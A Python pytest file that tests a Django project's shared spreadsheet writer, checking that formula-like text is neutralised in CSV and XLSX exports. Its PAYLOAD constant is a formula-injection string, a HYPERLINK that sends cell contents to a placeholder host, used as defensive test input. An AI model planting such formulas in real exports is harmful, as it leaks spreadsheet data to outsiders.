"""The one spreadsheet writer: text that could start a formula is literal text, numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from abitare.core import spreadsheets

PAYLOAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


@pytest.mark.parametrize("text", [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_text_that_could_start_a_formula_is_quoted_in_csv(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Canone gennaio", "", "a=b", Decimal("-12.50"), -3, 2.5, True, None])
def test_other_values_are_left_as_they_are(value):
    assert spreadsheets.neutralise(value) == value


def test_a_lazy_translation_is_written_as_its_text():
    label = gettext_lazy("Date")

    assert spreadsheets.neutralise(label) == str(label)
    assert isinstance(spreadsheets.neutralise(label), str)


@pytest.mark.parametrize("text", [PAYLOAD, "+39 0583 000000", "-", "@x"])
def test_unquote_reads_back_what_csv_text_wrote(text):
    written = spreadsheets.csv_text([[text]])
    cell = next(csv.reader(io.StringIO(written)))[0]

    assert cell == "'" + text
    assert spreadsheets.unquote(cell) == text


@pytest.mark.parametrize("text", ["'quoted by the user", "'", "O'Brien"])
def test_unquote_keeps_a_quote_that_is_the_users_own(text):
    assert spreadsheets.unquote(text) == text


def test_csv_text_writes_dates_as_iso_and_numbers_unquoted():
    written = spreadsheets.csv_text([[datetime.date(2025, 1, 5), Decimal("-450.00"), 3]], delimiter=";")

    assert written == "2025-01-05;-450.00;3\r\n"


def test_xlsx_text_is_a_string_cell_and_numbers_and_dates_stay_typed():
    book = spreadsheets.Spreadsheet()
    sheet = book.sheet("Prova")
    sheet.append(
        [PAYLOAD, "-5", Decimal("-450.00"), datetime.date(2025, 1, 5), "plain"],
        number_formats={3: "DD/MM/YYYY"},
    )
    sheet.worksheet.cell(row=2, column=1, value="=SUM(C1:C1)")  # a formula the program writes itself stays one

    reread = load_workbook(io.BytesIO(book.to_bytes())).worksheets[0]
    payload, minus, amount, day, plain = reread[1]

    assert (payload.value, payload.data_type, payload.quotePrefix) == (PAYLOAD, "s", True)
    assert (minus.value, minus.data_type, minus.quotePrefix) == ("-5", "s", True)
    assert (amount.value, amount.data_type) == (-450, "n")
    assert day.value == datetime.datetime(2025, 1, 5, 0, 0)
    assert day.number_format == "DD/MM/YYYY"
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("plain", "s", False)
    assert reread.cell(row=2, column=1).data_type == "f"


def test_sheets_take_their_titles_and_empty_rows_leave_a_gap():
    book = spreadsheets.Spreadsheet()
    first = book.sheet("Per contratto")
    first.append(["a"])
    first.append([])
    first.append(["b"])
    book.sheet("Per attività con un titolo molto lungo che supera il limite")

    reread = load_workbook(io.BytesIO(book.to_bytes()))

    assert reread.sheetnames == ["Per contratto", "Per attività con un titolo molt"]
    assert [row[0].value for row in reread.worksheets[0].iter_rows()] == ["a", None, "b"]


def test_no_export_writes_spreadsheets_without_the_shared_writer():
    """Every XLSX and CSV export goes through abitare.core.spreadsheets (readers of imports may use
    openpyxl and csv directly)."""

    root = Path(spreadsheets.__file__).parent.parent
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text()
        if "csv.writer" in text or "Workbook(" in text or "from openpyxl import Workbook" in text:
            offenders.append(str(path.relative_to(root)))

    assert offenders == []
